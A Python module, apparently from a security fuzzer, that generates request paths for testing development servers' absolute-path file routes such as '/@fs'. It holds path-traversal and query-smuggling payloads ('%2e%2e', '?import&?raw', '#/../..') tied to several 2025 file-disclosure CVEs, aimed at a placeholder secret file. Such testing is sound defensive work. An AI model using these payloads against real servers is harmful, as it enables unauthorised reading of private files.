"""Doors by which servers for development hand out files by absolute path."""

from collections.abc import Iterator

from capfuzz.attacks.techniques.registry import Kind, techniques_for

request = techniques_for(Kind.REQUEST, "http")
_DOORS = ("/@fs", "/fs", "/file", "/files", "/raw", "{prefix}/@fs")
_SAME = ("/@fs", "{prefix}/@fs")  # of one server, at its root and below its base
_HIDDEN = "{floor}/other/secret.txt"


@request(
    "request-file-door",
    group="request-door",
    cwe="CWE-200",
    needs="has a second door to files, by absolute path, and judges it less",
    refs=("CVE-2025-30208",),
)
def request_file_door() -> Iterator[str]:
    """Ask for an absolute path at a door beside the prefix, in usual spellings."""
    for door in _DOORS:
        yield f"{door}{_HIDDEN}"
        yield f"{door}/{_HIDDEN}"
    for door in _SAME:
        yield f"{door}{{floor}}/{{name}}-evil/secret.txt"
        yield f"{door}{{floor}}/{{name}}/../other/secret.txt"
        yield f"{door}{{floor}}/{{name}}/%2e%2e/other/secret.txt"


@request(
    "request-door-query",
    group="request-door",
    cwe="CWE-200",
    needs="lets the query say how a file is handed out, and the check and the reader split it apart",
    refs=("CVE-2025-30208", "CVE-2025-31125", "CVE-2025-31486"),
)
def request_door_query() -> Iterator[str]:
    """Ask at such a door for the raw text of a file, in queries that end oddly or come twice."""
    words = ("raw", "import&raw", "url", "inline&import", "raw&import", "import&inline&url")
    tailed = [f"{word}{tail}" for word in words for tail in ("", "?", "??", "&")]
    odd = ("import&?raw", "?raw", ".svg?raw", ".svg?.wasm?init", "import&?url")
    for door in _SAME:
        for query in (*tailed, *odd):
            yield f"{door}{_HIDDEN}?{query}"


@request(
    "request-door-climb",
    group="request-door",
    cwe="CWE-706",
    needs="judges the absolute path up to a ?, and opens more of the text than that",
    refs=("CVE-2025-31486",),
)
def request_door_climb() -> Iterator[str]:
    """Name the served folder at such a door, and climb out of it behind a ``?``."""
    yield from _climbs("?", "%3f")


@request(
    "request-door-fragment",
    group="request-door",
    cwe="CWE-706",
    needs="judges the absolute path up to a #, which no browser sends, and opens more than that",
    refs=("CVE-2025-32395",),
)
def request_door_fragment() -> Iterator[str]:
    """Name the served folder at such a door, and climb out of it behind a ``#``."""
    yield from _climbs("#", "%23")


def _climbs(*marks: str) -> Iterator[str]:
    for door in _SAME:
        for mark in marks:
            for query in ("", "?import&?raw", "?import&raw", "?raw"):
                yield f"{door}{{floor}}/{{name}}/{mark}/../../other/secret.txt{query}"
